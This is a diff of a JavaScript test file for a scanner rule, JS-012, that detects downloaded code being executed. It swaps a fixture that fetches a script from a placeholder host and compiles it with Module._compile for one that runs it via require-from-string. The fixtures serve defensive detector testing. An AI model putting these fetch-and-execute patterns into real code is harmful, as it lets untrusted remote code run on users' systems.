@@ -30,11 +30,7 @@ describe('JS-012 evidence of where the code comes from', () => {
     expect(f).toHaveLength(1);
     expect(f[0]!.evidence?.fixedUrl).toBeUndefined();
   });
-  it('sees downloaded code compiled as a CommonJS module', async () => {
-    const compile = `const https = require('https'); const Module = require('module');
-      https.get('https://x.invalid/s.js', (r) => { let d = ''; r.on('data', (c) => (d += c));
-        r.on('end', () => { const m = new Module('x'); m._compile(d, 'x.js'); }); });`;
-    expect((await ruleFindings('JS-012', compile))[0]?.severity).toBe('critical');
+  it('sees downloaded code compiled by require-from-string', async () => {
     const rfs = `const requireFromString = require('require-from-string');
       fetch('https://x.invalid/s.js').then((r) => r.text()).then((t) => requireFromString(t));`;
     expect((await ruleFindings('JS-012', rfs))[0]?.severity).toBe('critical');
